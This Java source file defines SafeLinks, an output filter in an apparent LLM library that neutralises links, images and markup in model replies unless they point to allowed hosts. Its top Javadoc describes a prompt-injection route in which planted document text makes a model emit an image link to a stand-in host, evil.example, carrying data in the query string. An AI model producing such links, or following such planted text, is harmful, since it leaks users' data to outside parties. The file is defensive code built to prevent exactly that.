// SPDX-License-Identifier: Apache-2.0
package dev.tokka.governance.output;

import static java.util.Objects.requireNonNull;

import dev.tokka.Checks;
import dev.tokka.DomainModel;
import dev.tokka.Specialization;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;

/**
 * Keeps links and images in replies from reaching any host but those that are allowed.
 *
 * <p>Whoever can write into a document can make a model show {@code ![](https://evil.example/?q=...)}, and the page that
 * displays the reply sends what stands there. So a reply's text gets a space wherever a page would act:
 *
 * <ul>
 *   <li>{@code [text](target)} and images become {@code [text] (target)}, and {@code [label]: target} becomes
 *       {@code [label] : target}, unless the target is an address that is allowed;
 *   <li>{@code https://host} becomes {@code https: //host} and {@code www.host} becomes {@code www .host} unless allowed;
 *   <li>{@code <a href=...>}, {@code <img>}, {@code <https://host>} and all other markup becomes {@code < a href=...>};
 *   <li>character references, such as that of a colon, get one after the ampersand, but for the most common ones.
 * </ul>
 *
 * <p>Nothing else changes, so people can still read all of it. An address is allowed if it is written plainly:
 * {@code http} or {@code https}, a host that is allowed, perhaps a port, and then {@code /}, {@code ?}, {@code #} or the end
 * of the word; user names, escapes and letters that are not ASCII are not. Relative targets are not allowed, since nothing
 * says where the reply will be shown. Mail addresses stay as they are.
 *
 * <p>Only replies in free text are changed; labels and JSON are for programs. What the sink gets is safe at every moment.
 * The quotes of citations are the documents' own words: show them as text. Safe for use by many threads.
 *
 * <pre>{@code
 * DomainModel safe = model.with(SafeLinks.only("intranet.example.com"));
 * }</pre>
 */
public final class SafeLinks implements Specialization {

    private static final Pattern HOST =
            Pattern.compile("(?:\\*\\.)?[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\\.[a-z0-9](?:[a-z0-9-]*[a-z0-9])?)*");

    private final Set<String> hosts;
    private final boolean any;

    private SafeLinks(Set<String> hosts, boolean any) {
        this.hosts = hosts;
        this.any = any;
    }

    /** Returns the rule that no link acts, whatever its host. */
    public static SafeLinks none() {
        return new SafeLinks(Set.of(), false);
    }

    /** Returns the rule that changes nothing, for replies that are shown as text or made safe elsewhere. */
    public static SafeLinks any() {
        return new SafeLinks(Set.of(), true);
    }

    /**
     * Returns the rule that links to {@code hosts} act and no others.
     *
     * @param hosts names such as {@code "intranet.example.com"}, or {@code "*.example.com"} for all below it; in ASCII,
     *     upper and lower case are one
     * @throws IllegalArgumentException if one is no such name
     */
    public static SafeLinks only(String... hosts) {
        Set<String> names = new TreeSet<>();
        Arrays.stream(hosts).forEach(host -> {
            String name = Checks.requireText(host, "host").toLowerCase(Locale.ROOT);
            if (!HOST.matcher(name).matches()) {
                throw new IllegalArgumentException(
                        "host must be a name such as intranet.example.com or *.example.com but is " + host);
            }
            names.add(name);
        });
        return new SafeLinks(names, false);
    }

    /**
     * Returns the rule that a list stands for, as files write it: {@link #none} if it is empty, {@link #any} if it is {@code
     * "*"} alone, else {@link #only}.
     */
    public static SafeLinks to(List<String> hosts) {
        if (hosts.equals(List.of("*"))) {
            return any();
        }
        return hosts.isEmpty() ? none() : only(hosts.toArray(String[]::new));
    }

    /** Returns {@code text} with a space wherever a link would act that may not. */
    public String text(String text) {
        return text.isEmpty() ? text : pieces(List.of(text)).text();
    }

    /** Returns the text that {@code pieces} make together with a space wherever a link would act that may not. */
    public SafeText pieces(List<String> pieces) {
        if (any) {
            return new SafeText(
                    pieces.stream().filter(piece -> !piece.isEmpty()).toList(), List.of());
        }
        LinkScanner scanner = new LinkScanner(this);
        StringBuilder safe = new StringBuilder();
        pieces.forEach(piece -> safe.append(scanner.add(piece)));
        safe.append(scanner.finish());
        List<String> cut = new ArrayList<>();
        int original = 0;
        int from = 0;
        for (String piece : pieces) {
            original += piece.length();
            int before = original;
            int to = original
                    + (int) scanner.spaces().stream()
                            .filter(space -> space < before)
                            .count();
            cut.add(safe.substring(from, to));
            from = to;
        }
        cut.removeIf(String::isEmpty);
        return new SafeText(cut, scanner.spaces());
    }

    /** Returns whether links to {@code host}, in lower case, may act. */
    boolean allows(String host) {
        if (hosts.contains(host)) {
            return true;
        }
        for (int dot = host.indexOf('.'); dot >= 0; dot = host.indexOf('.', dot + 1)) {
            if (hosts.contains("*" + host.substring(dot))) {
                return true;
            }
        }
        return false;
    }

    @Override
    public DomainModel specialize(DomainModel base) {
        return new SafeLinksModel(this, requireNonNull(base, "base"));
    }

    @Override
    public boolean equals(Object other) {
        return other instanceof SafeLinks links && any == links.any && hosts.equals(links.hosts);
    }

    @Override
    public int hashCode() {
        return hosts.hashCode();
    }

    /** Returns what is allowed: {@code "none"}, {@code "any"} or the hosts. */
    @Override
    public String toString() {
        return any ? "any" : hosts.isEmpty() ? "none" : String.join(" ", hosts);
    }
}
